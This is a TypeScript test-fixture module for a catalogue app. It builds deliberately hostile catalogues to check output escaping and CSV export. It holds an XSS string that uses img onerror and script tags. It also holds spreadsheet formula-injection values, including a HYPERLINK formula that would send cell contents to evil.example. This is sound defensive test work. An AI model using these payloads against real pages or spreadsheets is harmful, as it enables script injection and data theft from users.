import { defaultCatalogue, loadCatalogue } from '../../src/core/catalogue/load';
import { catalogueTable } from '../../src/core/catalogue/table';
import type { Catalogue } from '../../src/core/catalogue/types';

/** Markup that must stay inert text wherever catalogue text goes. */
export const HOSTILE = '<img src=x onerror=alert(1)> <script>alert("x")</script>';

/** A deep copy of the shipped catalogue, to change in a test. */
export function catalogueCopy(): Catalogue {
  return JSON.parse(JSON.stringify(defaultCatalogue())) as Catalogue;
}

/** The shipped catalogue with markup in the first competency's name, description and first indicator. */
export function hostileCatalogue(): Catalogue {
  const c = catalogueCopy();
  const first = c.competencies[0];
  first.name.et = `Kliendikesksus ${HOSTILE}`;
  first.name.en = `Client focus ${HOSTILE}`;
  first.indicators.et[0] = HOSTILE;
  first.indicators.en[0] = HOSTILE;
  first.description.et = HOSTILE;
  return loadCatalogue(c, 'hostile.json');
}

/** CSV as Estonian Excel saves it: the list separator and CRLF, quoting what needs it. */
export function excelCsv(separator: string, rows = catalogueTable(defaultCatalogue())): string {
  const quote = (f: string) => (f.includes(separator) || /["\r\n]/.test(f) ? `"${f.replace(/"/g, '""')}"` : f);
  return rows.map((r) => r.map(quote).join(separator)).join('\r\n') + '\r\n';
}

const CP1257: Record<string, number> = { õ: 0xf5, ä: 0xe4, ö: 0xf6, ü: 0xfc, š: 0xf0, ž: 0xfe, Õ: 0xd5, Ä: 0xc4, Ö: 0xd6, Ü: 0xdc, Š: 0xd0, Ž: 0xde, '„': 0x84, '“': 0x93, '–': 0x96 };

/** The text in Windows-1257 (only the characters the tests use). */
export function windows1257(text: string): Uint8Array {
  return Uint8Array.from([...text].map((ch) => (ch.charCodeAt(0) < 128 ? ch.charCodeAt(0) : CP1257[ch] ?? Number.NaN)));
}

/** A catalogue whose texts begin the way spreadsheet formulas do. */
export function formulaCatalogue() {
  const c = catalogueCopy();
  const [a, b] = c.competencies;
  a.name.et = '=HYPERLINK("https://evil.example/?q="&A1,"Kliendikesksus")';
  a.name.en = '+1+1';
  a.description.et = '-2+3';
  a.description.en = '@SUM(A1:A9)';
  a.indicators.et[0] = '\tTab ees';
  a.indicators.et[1] = "'apostroof ees";
  a.indicators.en[0] = "'=juba kaitstud";
  b.description.et = '\rCR ees';
  b.keywords = ['=x', 'y'];
  return c;
}
